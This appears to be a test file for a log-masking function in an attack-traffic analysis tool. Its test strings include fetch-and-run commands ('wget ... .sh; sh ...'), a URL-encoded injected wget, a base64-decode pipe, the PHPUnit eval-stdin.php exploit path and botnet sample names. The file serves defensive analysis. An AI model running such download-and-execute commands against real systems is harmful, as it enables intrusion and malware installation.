@@ -1,0 +1,65 @@
+// The token masker alone: each kind of variable token is masked, the words around it and
+// the words that look a little like one (versions, camelCase, file names) are kept.
+
+import { describe, expect, it } from 'vitest';
+
+import { maskText } from './mask.js';
+
+describe('maskText masks variable tokens', () => {
+  it.each([
+    ['IPv4 addresses, with a port', 'wget http://198.51.100.7:8080/x', 'wget http://<ip>/x'],
+    ['IPv6 addresses, short forms too', 'to [2001:db8::1]:80 or ::1 or fe80::a:b',
+      'to <ip> or <ip> or <ip>'],
+    ['a full IPv6 address with an IPv4 tail', '0:0:0:0:0:ffff:192.0.2.1 x', '<ip> x'],
+    ['numbers', 'id=30&n=7', 'id=<n>&n=<n>'],
+    ['UUIDs', 'c/3f2b8c1e-9d4a-4b7e-8f00-1a2b3c4d5e6f/s', 'c/<uuid>/s'],
+    ['hex runs of 8 or more', 'nonce="88645cefb1f9ede0"', 'nonce="<hex>"'],
+    ['base64 runs that mix cases and digits', 'echo bWtkaXIgLXAgL3RtcC8k | base64 -d',
+      'echo <b64> | base64 -d'],
+    ['generated file names', 'wget http://h/x7Gq2.sh; sh Kp9zQ.sh',
+      'wget http://h/<rnd>.sh; sh <rnd>.sh'],
+    ['mixed-case generated names', 'token GqZkTwPx end', 'token <rnd> end'],
+    ['the applet name after busybox', '/bin/busybox ECCHI', '/bin/busybox <rnd>'],
+    ['ISO 8601 times', 'at 2024-05-01T12:30:00.123Z and 2024-05-01', 'at <time> and <time>'],
+    ['ISO 8601 times with a zone', 'at 2024-05-01T12:30:00+09:00.', 'at <time>.'],
+    ['clock times', 'Tue, 15 Nov 1994 08:12:31 GMT', 'Tue, <n> Nov <n> <time> GMT'],
+    ['times named as such', 'ts=1700000000&_=1712345678901&a={"timestamp": 17}',
+      'ts=<time>&_=<time>&a={"timestamp": <time>}'],
+    ['numbers that are not named times', 'sleep 1700000000', 'sleep <n>'],
+    ['long runs of one character', `X-Pad: ${'A'.repeat(40)}|${'/'.repeat(20)}`,
+      'X-Pad: <rep:A>|<rep:/>'],
+    ['addresses behind URL escapes', 'cmd=wget%20http%3A%2F%2F198.51.100.82%2Fm.sh',
+      'cmd=wget%20http%3A%2F%2F<ip>%2Fm.sh'],
+  ])('%s', (_what, input, expected) => {
+    expect(maskText(input)).toBe(expected);
+  });
+});
+
+describe('maskText keeps what names a tool or an attack', () => {
+  it.each([
+    'eth_getBlockByNumber', 'getBlockByNumber', 'XMLHttpRequest', 'personal_unlockAccount',
+    'SSH-<n>.<n>-OpenSSH_', 'libssh2_', 'x86_', 'Mozi.m', 'arm.urbotnetisass', 'redtail.x',
+    'ISIS.sh',
+    'curl -fsSL', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/wp/v2/Users/Admin',
+    '/static/js/MainBundle.js', 'busybox wget', 'deadbeef', 'ECCHI',
+  ])('keeps %s', (word) => {
+    expect(maskText(word)).toBe(word);
+  });
+
+  it('masks only the number parts of versions', () => {
+    expect(maskText('OpenSSH_8.9p1 Ubuntu-3ubuntu0.10'))
+      .toBe('OpenSSH_<n>.9p1 Ubuntu-3ubuntu0.<n>');
+    expect(maskText('x86_64 i686')).toBe('x86_<n> i686');
+  });
+
+  it('does not take clock times, versions or MAC-like text for IPv6', () => {
+    expect(maskText('12:30:45')).toBe('<time>');
+    expect(maskText('1.2.3.4.5')).toBe('<n>.<n>.<n>.<n>.<n>');
+    expect(maskText('Accept: a:b')).toBe('Accept: a:b');
+  });
+
+  it('escapes control and non-ASCII characters, and reads CR LF as a line end', () => {
+    expect(maskText('a\r\nb\x00c\xffd\te')).toBe('a\nb\\x00c\\xffd\\x09e');
+    expect(maskText('\u3042')).toBe('\\u3042');
+  });
+});
